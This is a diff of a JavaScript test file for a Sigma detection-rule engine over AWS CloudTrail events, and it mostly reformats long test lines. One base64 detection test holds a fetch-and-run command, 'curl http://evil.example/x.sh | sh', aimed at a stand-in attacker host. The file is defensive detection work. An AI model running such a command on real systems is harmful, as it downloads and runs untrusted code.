@@ -59,8 +59,12 @@ describe('Sigma engine', () => {
 
   it('lists OR, maps AND, a list of maps ORs the maps', () => {
     yes(rule('sel:\n  eventName:\n    - DeleteTrail\n    - PutBucketPolicy\ncondition: sel'));
-    no(rule('sel:\n  eventName: PutBucketPolicy\n  eventSource: ec2.amazonaws.com\ncondition: sel'));
-    yes(rule('sel:\n  - eventName: DeleteTrail\n  - eventSource: s3.amazonaws.com\ncondition: sel'));
+    no(
+      rule('sel:\n  eventName: PutBucketPolicy\n  eventSource: ec2.amazonaws.com\ncondition: sel'),
+    );
+    yes(
+      rule('sel:\n  - eventName: DeleteTrail\n  - eventSource: s3.amazonaws.com\ncondition: sel'),
+    );
   });
 
   it('null: absent or null', () => {
@@ -70,8 +74,8 @@ describe('Sigma engine', () => {
   });
 
   it('dotted paths fan out over arrays and compare nested objects by their JSON', () => {
-    yes(rule("sel:\n  requestParameters.items.userId: all\ncondition: sel"));
-    yes(rule("sel:\n  requestParameters.policy|contains: '\"Principal\":\"*\"'\ncondition: sel"));
+    yes(rule('sel:\n  requestParameters.items.userId: all\ncondition: sel'));
+    yes(rule('sel:\n  requestParameters.policy|contains: \'"Principal":"*"\'\ncondition: sel'));
     no(rule("sel:\n  requestParameters.items.userId: '999'\ncondition: sel"));
   });
 
@@ -94,17 +98,27 @@ describe('Sigma engine', () => {
     no(rule("sel:\n  userAgent|re: 'python/3'\ncondition: sel"));
     yes(rule("sel:\n  userAgent|re|i: 'python/3'\ncondition: sel"));
     yes(rule("sel:\n  userAgent|re: '(?i)PYTHON/3'\ncondition: sel"));
-    assert.match(problem("sel:\n  userAgent|re: '(['\ncondition: sel"), /not a valid regular expression/);
+    assert.match(
+      problem("sel:\n  userAgent|re: '(['\ncondition: sel"),
+      /not a valid regular expression/,
+    );
   });
 
   it('cidr: IPv4 and IPv6 networks', () => {
     yes(rule("sel:\n  sourceIPAddress|cidr: '203.0.113.0/24'\ncondition: sel"));
     no(rule("sel:\n  sourceIPAddress|cidr: '203.0.112.0/24'\ncondition: sel"));
-    yes(rule("sel:\n  sourceIPAddress|cidr:\n    - '10.0.0.0/8'\n    - '203.0.0.0/8'\ncondition: sel"));
+    yes(
+      rule(
+        "sel:\n  sourceIPAddress|cidr:\n    - '10.0.0.0/8'\n    - '203.0.0.0/8'\ncondition: sel",
+      ),
+    );
     const v6 = { ...ev, sourceIPAddress: '2001:db8::1' };
     yes(rule("sel:\n  sourceIPAddress|cidr: '2001:db8::/32'\ncondition: sel"), v6);
     no(rule("sel:\n  sourceIPAddress|cidr: '2001:db9::/32'\ncondition: sel"), v6);
-    no(rule("sel:\n  sourceIPAddress|cidr: '203.0.113.0/24'\ncondition: sel"), { ...ev, sourceIPAddress: 'ec2.amazonaws.com' });
+    no(rule("sel:\n  sourceIPAddress|cidr: '203.0.113.0/24'\ncondition: sel"), {
+      ...ev,
+      sourceIPAddress: 'ec2.amazonaws.com',
+    });
     assert.match(problem("sel:\n  sourceIPAddress|cidr: 'nonsense'\ncondition: sel"), /not a CIDR/);
   });
 
@@ -115,11 +129,23 @@ describe('Sigma engine', () => {
   });
 
   it('base64 and base64offset', () => {
-    yes(rule("sel:\n  requestParameters.encoded|base64: 'curl http://evil.example/x.sh | sh'\ncondition: sel"));
+    yes(
+      rule(
+        "sel:\n  requestParameters.encoded|base64: 'curl http://evil.example/x.sh | sh'\ncondition: sel",
+      ),
+    );
     no(rule("sel:\n  requestParameters.encoded|base64: 'curl'\ncondition: sel"));
-    yes(rule("sel:\n  requestParameters.encoded|base64offset|contains: 'evil.example'\ncondition: sel"));
+    yes(
+      rule(
+        "sel:\n  requestParameters.encoded|base64offset|contains: 'evil.example'\ncondition: sel",
+      ),
+    );
     yes(rule("sel:\n  requestParameters.inner|base64offset|contains: 'hacked'\ncondition: sel"));
-    no(rule("sel:\n  requestParameters.encoded|base64offset|contains: 'good.example'\ncondition: sel"));
+    no(
+      rule(
+        "sel:\n  requestParameters.encoded|base64offset|contains: 'good.example'\ncondition: sel",
+      ),
+    );
   });
 
   it('windash: a leading dash also matches slash and unicode dashes', () => {
@@ -150,7 +176,8 @@ describe('Sigma engine', () => {
   });
 
   it('conditions: and, or, not, parentheses and precedence', () => {
-    const sels = 'a:\n  eventName: PutBucketPolicy\nb:\n  eventSource: ec2.amazonaws.com\nc:\n  readOnly: false\n';
+    const sels =
+      'a:\n  eventName: PutBucketPolicy\nb:\n  eventSource: ec2.amazonaws.com\nc:\n  readOnly: false\n';
     yes(rule(`${sels}condition: a and not b`));
     no(rule(`${sels}condition: a and b`));
     yes(rule(`${sels}condition: b or a and c`));
@@ -161,13 +188,15 @@ describe('Sigma engine', () => {
   });
 
   it('1 of / all of a pattern and of them (them leaves out _ names)', () => {
-    const sels = 'sel_a:\n  eventName: PutBucketPolicy\nsel_b:\n  eventSource: ec2.amazonaws.com\nfilter:\n  readOnly: false\n_x:\n  eventName: Nothing\n';
+    const sels =
+      'sel_a:\n  eventName: PutBucketPolicy\nsel_b:\n  eventSource: ec2.amazonaws.com\nfilter:\n  readOnly: false\n_x:\n  eventName: Nothing\n';
     yes(rule(`${sels}condition: 1 of sel_*`));
     no(rule(`${sels}condition: all of sel_*`));
     yes(rule(`${sels}condition: 1 of sel_* and filter`));
     yes(rule(`${sels}condition: 1 of them`));
     no(rule(`${sels}condition: all of them`));
-    const three = 'sel_a:\n  eventName: PutBucketPolicy\nsel_b:\n  eventSource: s3.amazonaws.com\nsel_c:\n  eventName: X\n';
+    const three =
+      'sel_a:\n  eventName: PutBucketPolicy\nsel_b:\n  eventSource: s3.amazonaws.com\nsel_c:\n  eventName: X\n';
     yes(rule(`${three}condition: 2 of sel_*`));
     no(rule(`${three}condition: 3 of sel_*`));
     yes(rule(`${three}condition: all of sel_a or sel_c`));
@@ -176,13 +205,25 @@ describe('Sigma engine', () => {
   it('reports what it cannot run fully, with the reason, and never loads it', () => {
     assert.match(problem('sel:\n  eventName: x\ncondition: sel | count() > 5'), /aggregation/);
     assert.match(problem('sel:\n  eventName: x\ntimeframe: 5m\ncondition: sel'), /timeframe/);
-    assert.match(problem('sel:\n  eventName|frobnicate: x\ncondition: sel'), /unknown modifier \|frobnicate/);
+    assert.match(
+      problem('sel:\n  eventName|frobnicate: x\ncondition: sel'),
+      /unknown modifier \|frobnicate/,
+    );
     assert.match(problem('sel:\n  eventName|expand: "%x%"\ncondition: sel'), /expand/);
-    assert.match(problem('sel:\n  eventName: x\ncondition: sel', 'product: windows\n  service: security'), /not product: aws, service: cloudtrail/);
-    assert.match(problem('sel:\n  eventName: x\ncondition: sel and other'), /no selection named 'other'/);
+    assert.match(
+      problem('sel:\n  eventName: x\ncondition: sel', 'product: windows\n  service: security'),
+      /not product: aws, service: cloudtrail/,
+    );
+    assert.match(
+      problem('sel:\n  eventName: x\ncondition: sel and other'),
+      /no selection named 'other'/,
+    );
     assert.match(problem('sel:\n  eventName: x\ncondition: (sel'), /not closed/);
     assert.match(problem('sel:\n  eventName: x\ncondition: 1 of nothing*'), /no selection matches/);
-    const corr = parseSigmaRules('title: c\ncorrelation:\n  type: event_count\n  rules: [a]\n', 'c.yml');
+    const corr = parseSigmaRules(
+      'title: c\ncorrelation:\n  type: event_count\n  rules: [a]\n',
+      'c.yml',
+    );
     assert.equal(corr.rules.length, 0);
     assert.match(corr.problems[0].reason, /correlation/);
     assert.equal(corr.problems[0].kind, 'unsupported');
@@ -191,16 +232,29 @@ describe('Sigma engine', () => {
   });
 
   it('several rules in one file (YAML documents), each with its metadata', () => {
-    const text = ['title: one\nid: a\nlevel: low\ntags: [attack.T1078]\nfalsepositives: [admins]\nlogsource: {product: aws, service: cloudtrail}\ndetection: {s: {eventName: X}, condition: s}', 'title: two\nlogsource: {product: aws, service: cloudtrail}\ndetection: {s: {eventName: Y}, condition: s}'].join('\n---\n');
+    const text = [
+      'title: one\nid: a\nlevel: low\ntags: [attack.T1078]\nfalsepositives: [admins]\nlogsource: {product: aws, service: cloudtrail}\ndetection: {s: {eventName: X}, condition: s}',
+      'title: two\nlogsource: {product: aws, service: cloudtrail}\ndetection: {s: {eventName: Y}, condition: s}',
+    ].join('\n---\n');
     const parsed = parseSigmaRules(text, 'many.yml');
     assert.equal(parsed.rules.length, 2);
-    assert.deepEqual([parsed.rules[0].id, parsed.rules[0].level, parsed.rules[0].tags, parsed.rules[0].falsepositives], ['a', 'low', ['attack.t1078'], ['admins']]);
+    assert.deepEqual(
+      [
+        parsed.rules[0].id,
+        parsed.rules[0].level,
+        parsed.rules[0].tags,
+        parsed.rules[0].falsepositives,
+      ],
+      ['a', 'low', ['attack.t1078'], ['admins']],
+    );
     assert.equal(parsed.rules[1].id, 'two');
     assert.equal(parsed.rules[1].level, 'medium');
   });
 
   it('explains a match by the field tests that held', () => {
-    const r = rule('sel:\n  eventName: PutBucketPolicy\n  userAgent|contains: python\nfilter:\n  userIdentity.type: Root\ncondition: sel and not filter');
+    const r = rule(
+      'sel:\n  eventName: PutBucketPolicy\n  userAgent|contains: python\nfilter:\n  userIdentity.type: Root\ncondition: sel and not filter',
+    );
     const why = explainMatch(r, ev);
     assert.deepEqual(
       why.map((w) => [w.field, w.values[0]]),
@@ -214,25 +268,74 @@ describe('Sigma engine', () => {
 
 describe('Sigma engine: fields that are objects', () => {
   it('a path ending on an object is searched in its JSON text and in every string inside it', () => {
-    const e = { eventName: 'PutUserPolicy', requestParameters: { userName: 'u', policyDocument: '{"Effect":"Allow","Action":"s3:GetObject"}' } };
-    yes(rule("sel:\n  requestParameters|contains|all:\n    - '\"s3:GetObject\"'\n    - '\"Allow\"'\ncondition: sel"), e);
-    yes(rule("sel:\n  requestParameters|contains: '\"userName\":\"u\"'\ncondition: sel"), e);
-    no(rule("sel:\n  requestParameters|contains: '\"s3:PutObject\"'\ncondition: sel"), e);
+    const e = {
+      eventName: 'PutUserPolicy',
+      requestParameters: {
+        userName: 'u',
+        policyDocument: '{"Effect":"Allow","Action":"s3:GetObject"}',
+      },
+    };
+    yes(
+      rule(
+        'sel:\n  requestParameters|contains|all:\n    - \'"s3:GetObject"\'\n    - \'"Allow"\'\ncondition: sel',
+      ),
+      e,
+    );
+    yes(rule('sel:\n  requestParameters|contains: \'"userName":"u"\'\ncondition: sel'), e);
+    no(rule('sel:\n  requestParameters|contains: \'"s3:PutObject"\'\ncondition: sel'), e);
   });
 });
 
 describe('Sigma engine: fieldref', () => {
-  const e = { eventName: 'CreateAccessKey', userIdentity: { arn: 'arn:aws:iam::1:user/Alice', userName: 'alice' }, requestParameters: { userName: 'alice' } };
+  const e = {
+    eventName: 'CreateAccessKey',
+    userIdentity: { arn: 'arn:aws:iam::1:user/Alice', userName: 'alice' },
+    requestParameters: { userName: 'alice' },
+  };
   const other = { ...e, requestParameters: { userName: 'bob' } };
   it('compares with another field of the same record, alone or with contains/startswith/endswith', () => {
-    yes(rule('sel:\n  userIdentity.userName|fieldref: requestParameters.userName\ncondition: sel'), e);
-    no(rule('sel:\n  userIdentity.userName|fieldref: requestParameters.userName\ncondition: sel'), other);
-    yes(rule('sel:\n  userIdentity.arn|fieldref|endswith: requestParameters.userName\ncondition: sel'), e);
-    no(rule('sel:\n  userIdentity.arn|fieldref|endswith|cased: requestParameters.userName\ncondition: sel'), e);
-    yes(rule('sel:\n  userIdentity.arn|fieldref|contains: requestParameters.userName\ncondition: sel'), e);
-    no(rule('sel:\n  userIdentity.arn|fieldref|startswith: requestParameters.userName\ncondition: sel'), e);
-    yes(rule('sel:\n  eventName: CreateAccessKey\nself:\n  userIdentity.userName|fieldref: requestParameters.userName\ncondition: sel and not self'), other);
-    no(rule('sel:\n  userIdentity.userName|fieldref: requestParameters.nothing\ncondition: sel'), e);
+    yes(
+      rule('sel:\n  userIdentity.userName|fieldref: requestParameters.userName\ncondition: sel'),
+      e,
+    );
+    no(
+      rule('sel:\n  userIdentity.userName|fieldref: requestParameters.userName\ncondition: sel'),
+      other,
+    );
+    yes(
+      rule(
+        'sel:\n  userIdentity.arn|fieldref|endswith: requestParameters.userName\ncondition: sel',
+      ),
+      e,
+    );
+    no(
+      rule(
+        'sel:\n  userIdentity.arn|fieldref|endswith|cased: requestParameters.userName\ncondition: sel',
+      ),
+      e,
+    );
+    yes(
+      rule(
+        'sel:\n  userIdentity.arn|fieldref|contains: requestParameters.userName\ncondition: sel',
+      ),
+      e,
+    );
+    no(
+      rule(
+        'sel:\n  userIdentity.arn|fieldref|startswith: requestParameters.userName\ncondition: sel',
+      ),
+      e,
+    );
+    yes(
+      rule(
+        'sel:\n  eventName: CreateAccessKey\nself:\n  userIdentity.userName|fieldref: requestParameters.userName\ncondition: sel and not self',
+      ),
+      other,
+    );
+    no(
+      rule('sel:\n  userIdentity.userName|fieldref: requestParameters.nothing\ncondition: sel'),
+      e,
+    );
     assert.match(problem('sel:\n  a|fieldref|re: b\ncondition: sel'), /cannot be combined/);
   });
 });
